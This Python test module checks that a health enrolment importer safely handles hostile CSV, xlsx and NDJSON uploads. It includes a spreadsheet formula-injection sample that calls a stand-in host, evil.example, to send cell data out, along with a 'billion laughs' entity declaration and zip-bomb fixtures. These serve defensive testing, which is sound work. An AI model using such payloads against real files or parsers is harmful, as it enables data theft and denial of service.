"""Hostile participant lists and vaccination files (docs/enrolment.md "Hostile input"): each gets a clear outcome,
nothing crashes, memory stays bounded, and nothing of a value leaks into a reason or the outcome file."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from healthbook.enrolment.codes import CODES
from healthbook.enrolment.outcome import outcome_csv
from healthbook.enrolment.process import process_batch
from healthbook.enrolment.reader import FileRefused, Limits, Prepared, prepare
from healthbook.enrolment.schema import CANONICAL_COLUMNS, Kind
from healthbook.vneid import VneidClient
from healthbook_dev.fakes.population import FakePopulation
from healthbook_dev.fakes.vneid import FakeVneid
from healthbook_dev.generate.enrolment import (
    enrolment_csv,
    enrolment_list,
    enrolment_xlsx,
    immunization,
    vaccination_ndjson,
    vaccination_rows,
    xlsx_bomb,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

PEPPER = b"enrolment-hostile-pepper-0123456"
NOW = datetime(2026, 1, 5, 3, 0, tzinfo=UTC)
LISTING = enrolment_list(6, seed=31)
GOOD = enrolment_csv(LISTING.rows)  # a header and 6 rows (rows 2-7), BOM, CRLF
LINES = GOOD.split(b"\r\n")


def refused(data: bytes, kind: Kind = Kind.ENROLMENT, *, name: str = "list.csv", limits: Limits | None = None) -> str:
    with pytest.raises(FileRefused) as caught:
        prepare(data, name=name, kind=kind, limits=limits or Limits())
    assert caught.value.code in CODES and CODES[caught.value.code].scope == "file"
    assert caught.value.reason and caught.value.reason_vi and caught.value.as_problem().row is None
    return caught.value.code


def cp1258(text: str) -> bytes:
    """Text as Windows-1258 writes Vietnamese: precomposed letters where the code page has them, tone marks as
    combining characters (Python's codec alone refuses most precomposed Vietnamese letters)."""
    out = []
    for char in text:
        try:
            out.append(char.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            parts = unicodedata.normalize("NFD", char)
        try:
            out.append(unicodedata.normalize("NFC", parts[:2]).encode("cp1258") + parts[2:].encode("cp1258"))
        except UnicodeEncodeError:
            out.append(parts.encode("cp1258"))
    return b"".join(out)


def with_line(index: int, line: bytes) -> bytes:
    return b"\r\n".join([*LINES[:index], line, *LINES[index + 1:]])


def canonical(prepared: Prepared) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(prepared.canonical_csv.decode("utf-8"), newline="")))


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeVneid]:
    with FakeVneid.start() as running:
        yield running


# ------------------------------------------------------------------------------------------------ encodings

def test_a_windows_1258_list_is_refused_as_not_utf8() -> None:
    data = cp1258(GOOD.decode("utf-8-sig"))
    assert data.decode("cp1258") != GOOD.decode("utf-8-sig") and refused(data) == "N003"


def test_one_row_in_another_encoding_is_left_out_and_the_file_goes_on() -> None:
    row = cp1258(LINES[3].decode("utf-8").replace(LISTING.rows[2]["HO_TEN"], "Nguyễn Thị Hà"))
    prepared = prepare(with_line(3, row), name="list.csv", kind=Kind.ENROLMENT)
    assert [(p.row, p.code) for p in prepared.problems] == [(4, "N020")]
    assert (prepared.rows, prepared.kept) == (6, 5)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_utf16_or_utf32_list_is_refused(encoding: str) -> None:
    assert refused(GOOD.decode("utf-8-sig").encode(encoding)) == "N004"


def test_a_nul_byte_in_a_cell_refuses_that_row() -> None:
    row = LINES[2].replace(b",", b",\x00", 1)
    prepared = prepare(with_line(2, row), name="list.csv", kind=Kind.ENROLMENT)
    assert [(p.row, p.column, p.code) for p in prepared.problems] == [(3, "SO_CCCD", "N022")]
    assert prepared.kept == 5 and b"\x00" not in prepared.canonical_csv


def test_a_line_break_inside_a_quoted_cell_refuses_that_row() -> None:
    name = LISTING.rows[1]["HO_TEN"].encode("utf-8")
    row = LINES[2].replace(name, b'"' + name + "\r\nphòng 3\"".encode())
    prepared = prepare(with_line(2, row), name="list.csv", kind=Kind.ENROLMENT)
    assert [(p.row, p.column, p.code) for p in prepared.problems] == [(3, "HO_TEN", "N022")]
    assert [r["ROW"] for r in canonical(prepared)] == ["2", "4", "5", "6", "7"]


# ------------------------------------------------------------------------------------------------ formulas

def test_a_formula_in_a_name_stays_text_and_never_reaches_the_outcome_file(fake: FakeVneid) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
    rows = [dict(r) for r in LISTING.rows]
    rows[0]["HO_TEN"] = formula
    rows[1]["MA_SO_BHXH"] = "+1234567890"
    prepared = prepare(enrolment_csv(rows), name="list.csv", kind=Kind.ENROLMENT)
    assert canonical(prepared)[0]["HO_TEN"] == formula  # kept as text, not evaluated, not dropped
    fake.reset()
    with VneidClient(fake.url, auth=fake.oauth2()) as books:
        outcomes = process_batch(canonical(prepared), kind=Kind.ENROLMENT, population=LISTING.population(),
                                 books=books, pepper=PEPPER, now=NOW).outcomes
    assert [(o.outcome, o.code) for o in outcomes[:2]] == [("not_matched", "NAME_MISMATCH"), ("invalid", "N103")]
    text = outcome_csv(outcomes, prepared.problems).decode("utf-8-sig")
    assert "HYPERLINK" not in text and "evil" not in text and "+1234567890" not in text
    for line in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line)


# ------------------------------------------------------------------------------------- duplicates and size

def test_ten_thousand_identical_rows_are_one_created_and_the_rest_unchanged(fake: FakeVneid) -> None:
    data = enrolment_csv([LISTING.rows[0]] * 10_000)
    tracemalloc.start()
    try:
        prepared = prepare(data, name="list.csv", kind=Kind.ENROLMENT)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (prepared.rows, prepared.kept, prepared.problems) == (10_000, 10_000, [])
    assert peak < 4 * len(data) + 2 * 1024 * 1024, peak  # the input, the canonical CSV and a little
    rows = canonical(prepared)
    population = LISTING.population()
    fake.reset()
    counts: dict[str, int] = {}
    with VneidClient(fake.url, auth=fake.oauth2()) as books:
        for start in range(0, len(rows), 1000):  # the workflow's batches
            batch = process_batch(rows[start:start + 1000], kind=Kind.ENROLMENT, population=population,
                                  books=books, pepper=PEPPER, now=NOW)
            for name, n in batch.counts().items():
                counts[name] = counts.get(name, 0) + n
    assert counts == {"created": 1, "updated": 0, "unchanged": 9_999, "not_matched": 0, "invalid": 0}
    stats = fake.counts()
    assert stats["profile_puts"] == 10 and stats["profiles_created"] == 1  # one write per batch, not per row
    assert population.calls == 10


def test_a_row_with_a_one_megabyte_cell_is_refused_and_the_file_goes_on() -> None:
    row = LINES[3].replace(b",", b"," + b"A" * (1024 * 1024) + b",", 1)
    prepared = prepare(with_line(3, row), name="list.csv", kind=Kind.ENROLMENT)
    assert [(p.row, p.code) for p in prepared.problems] == [(4, "N021")]
    assert [r["ROW"] for r in canonical(prepared)] == ["2", "3", "5", "6", "7"]
    assert len(prepared.canonical_csv) < len(GOOD) + 100


def test_a_cell_over_the_cell_limit_is_refused_with_its_column() -> None:
    row = LINES[2].replace(LISTING.rows[1]["HO_TEN"].encode("utf-8"), b"B" * 1025)
    prepared = prepare(with_line(2, row), name="list.csv", kind=Kind.ENROLMENT)
    assert [(p.row, p.column, p.code) for p in prepared.problems] == [(3, "HO_TEN", "N021")]
    assert "1024" in prepared.problems[0].reason


def test_a_large_list_is_read_in_bounded_memory() -> None:
    data = enrolment_csv(enrolment_list(2_000, seed=32).rows * 20)  # 40,000 rows, ~5 MB
    tracemalloc.start()
    try:
        prepared = prepare(data, name="list.csv", kind=Kind.ENROLMENT)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert prepared.kept == 40_000
    assert peak < 3 * len(data), (peak, len(data))  # no per-row objects kept: the output and a copy of it


@pytest.mark.parametrize(("limits", "code"), [(Limits(max_bytes=100), "N002"), (Limits(max_rows=5), "N014")])
def test_limits_refuse_the_file(limits: Limits, code: str) -> None:
    assert refused(GOOD, limits=limits) == code


# ------------------------------------------------------------------------------------------------ workbooks

def test_an_xlsx_bomb_is_refused_before_openpyxl_opens_it(monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = xlsx_bomb()  # 3 GiB of parts
    declared = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist())
    assert declared > 3 * 1024**3 and len(bomb) < 8 * 1024**2

    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl must not open a bomb")

    import openpyxl

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    tracemalloc.start()
    started = time.perf_counter()
    try:
        assert refused(bomb, name="list.xlsx") == "N007"
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 2 and peak < 16 * 1024**2


def test_too_many_parts_is_a_bomb_too() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(30):
            archive.writestr(f"xl/p{i}.bin", b"")
    assert refused(out.getvalue(), limits=Limits(max_xlsx_parts=20)) == "N007"


def _rewrite(workbook: bytes, part: str, change: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(workbook))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == part:
                data = change + (data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data)
            target.writestr(info.filename, data)
    return out.getvalue()


def test_a_workbook_part_declaring_entities_is_refused() -> None:
    workbook = enrolment_xlsx(LISTING.rows)
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>')
    assert refused(_rewrite(workbook, "xl/worksheets/sheet1.xml", laughs), name="list.xlsx") == "N008"


@pytest.mark.parametrize("data", [b"PK\x03\x04 truncated", b"PK\x05\x06" + bytes(18)])
def test_a_broken_or_empty_zip_is_not_a_workbook(data: bytes) -> None:
    assert refused(data, name="list.xlsx") == "N006"


def test_a_zip_that_is_not_a_workbook_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
    assert refused(out.getvalue(), name="list.xlsx") == "N006"


def test_a_sheet_claiming_the_whole_grid_is_read_row_by_row_as_narrow_as_the_limit() -> None:
    workbook = enrolment_xlsx(LISTING.rows)
    source = zipfile.ZipFile(io.BytesIO(workbook))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb"<dimension [^>]*/>", b"", data).replace(
                    b"<sheetData", b'<dimension ref="A1:XFD1048576"/><sheetData', 1)
            target.writestr(info.filename, data)
    started = time.perf_counter()
    prepared = prepare(out.getvalue(), name="list.xlsx", kind=Kind.ENROLMENT)
    assert prepared.kept == 6 and time.perf_counter() - started < 2


def test_an_old_xls_workbook_and_random_bytes_are_refused() -> None:
    assert refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), name="list.xls") == "N005"
    assert refused(bytes(range(256)) * 4, name="list.csv") == "N005"


# ------------------------------------------------------------------------------------- empty and headers

@pytest.mark.parametrize(("data", "code"), [
    (b"", "N001"), (b"\xef\xbb\xbf \r\n\r\n", "N001"), (LINES[0] + b"\r\n", "N013"),
    (LINES[0] + b"\r\n,,,,\r\n\r\n", "N013"), (b"a,b,c\r\n1,2,3\r\n", "N009"),
    (b"SO_CCCD,HO_TEN\r\n001090012345,An\r\n", "N010"),
    (b"HO_TEN,NGAY_SINH,GIOI_TINH,MATINH_CU_TRU\r\nAn,19900101,1,01\r\n", "N011"),
    (LINES[0] + b",SO_CCCD\r\n", "N012"),
])
def test_empty_header_only_and_header_problems_refuse_the_file(data: bytes, code: str) -> None:
    assert refused(data) == code


def test_the_header_must_come_within_the_first_rows() -> None:
    assert refused(b"title\r\n" * 10 + GOOD) == "N009"
    assert prepare(b"title\r\n" * 9 + GOOD, name="l.csv", kind=Kind.ENROLMENT).kept == 6


def test_missing_optional_columns_are_empty_and_unknown_ones_noted() -> None:
    data = b"SO_CCCD,HO_TEN,NGAY_SINH,GIOI_TINH,MATINH_CU_TRU,GHI_CHU\r\n001090012345,An,19900101,1,01,x\r\n"
    prepared = prepare(data, name="l.csv", kind=Kind.ENROLMENT)
    (row,) = canonical(prepared)
    assert row["MA_THE_BHYT"] == "" and row["MA_SO_BHXH"] == "" and row["SO_CCCD"] == "001090012345"
    assert [(p.row, p.column, p.code) for p in prepared.problems] == [(None, "GHI_CHU", "N015")]


def test_more_cells_than_columns_refuses_that_row_but_trailing_empty_cells_do_not() -> None:
    prepared = prepare(with_line(2, LINES[2] + b",extra") + b"\r\n" + LINES[3] + b",,,", name="l.csv",
                       kind=Kind.ENROLMENT)
    assert [(p.row, p.code) for p in prepared.problems] == [(3, "N023")]
    assert prepared.kept == 6


# ------------------------------------------------------------------------------------------------- NDJSON

def test_bad_ndjson_lines_are_left_out_and_the_good_ones_read() -> None:
    rows = vaccination_rows(LISTING.listed[:2], seed=33, per_person=(1, 1))
    good = [json.dumps(immunization(r), ensure_ascii=False) for r in rows]
    not_done = immunization(rows[0]) | {"status": "not-done"}
    no_vaccine = {k: v for k, v in immunization(rows[0]).items() if k != "vaccineCode"}
    lines = [
        good[0],                                             # 1 good
        "{not json",                                         # 2 N221
        "[1, 2, 3]",                                         # 3 N221: JSON, not an object
        "[" * 50_000 + "]" * 50_000,                         # 4 too long for the limit below: N220
        "[" * 20_000 + "]" * 20_000,                         # 5 nested past Python's recursion limit: N221
        json.dumps({"resourceType": "Patient", "id": "x"}),  # 6 N222
        json.dumps(no_vaccine),                              # 7 N222 (vaccineCode is required)
        json.dumps(not_done),                                # 8 N223
        "",                                                  # 9 blank: skipped, not counted
        good[1],                                             # 10 good
    ]
    data = "\n".join(lines).encode("utf-8") + b"\n" + cp1258("Nguyễn") + b"\n"  # 11 N020
    prepared = prepare(data, name="v.ndjson", kind=Kind.VACCINATION, limits=Limits(max_line_bytes=64 * 1024))
    assert [(p.row, p.code) for p in prepared.problems] == [
        (2, "N221"), (3, "N221"), (4, "N220"), (5, "N221"), (6, "N222"), (7, "N222"), (8, "N223"), (11, "N020")]
    assert [p.column for p in prepared.problems if p.code == "N222"] == ["resourceType", "vaccineCode"]
    assert (prepared.rows, prepared.kept) == (10, 2) and [r["ROW"] for r in canonical(prepared)] == ["1", "10"]


def test_ndjson_is_for_vaccinations_only() -> None:
    assert refused(vaccination_ndjson(vaccination_rows(LISTING.listed[:1])), name="l.ndjson") == "N005"


def test_a_huge_value_inside_a_valid_immunization_is_refused_by_the_cell_limit() -> None:
    row = vaccination_rows(LISTING.listed[:1], seed=34, per_person=(1, 1))[0]
    resource = immunization(row)
    resource["lotNumber"] = "L" * 5000
    prepared = prepare(json.dumps(resource).encode(), name="v.ndjson", kind=Kind.VACCINATION)
    assert [(p.row, p.column, p.code) for p in prepared.problems] == [(1, "SO_LO", "N021")]


# ---------------------------------------------------------------------------------------- nothing crashes

@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2048), st.sampled_from(list(Kind)), st.sampled_from(["x.csv", "x.xlsx", "x.ndjson"]))
def test_any_bytes_give_a_prepared_file_or_a_refusal(data: bytes, kind: Kind, name: str) -> None:
    try:
        prepared = prepare(data, name=name, kind=kind)
    except FileRefused as exc:
        assert exc.code in CODES and CODES[exc.code].scope == "file"
        return
    assert prepared.rows >= prepared.kept and all(p.code in CODES for p in prepared.problems)
    assert prepared.canonical_csv.decode("utf-8").startswith(",".join(CANONICAL_COLUMNS[kind]))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300), st.sampled_from(list(Kind)))
def test_any_csv_text_under_a_good_header_gives_an_outcome_per_row(body: str, kind: Kind) -> None:
    header = ",".join(CANONICAL_COLUMNS[kind][1:]).encode()
    try:
        prepared = prepare(header + b"\r\n" + body.encode("utf-8", "surrogatepass"), name="x.csv", kind=kind)
    except FileRefused as exc:
        assert exc.code in ("N013", "N003", "N004")
        return
    result = process_batch(canonical(prepared), kind=kind, population=FakePopulation(), books=_Never(),
                           pepper=PEPPER, now=NOW)
    assert len(result.outcomes) == prepared.kept
    assert {o.outcome for o in result.outcomes} <= {"not_matched", "invalid"}


class _Never:
    def put_profile(self, citizen_key: str, profile: object) -> str:
        raise AssertionError("nobody is known")

    def put_vaccination(self, citizen_key: str, record_id: str, record: object) -> str:
        raise AssertionError("nobody is known")
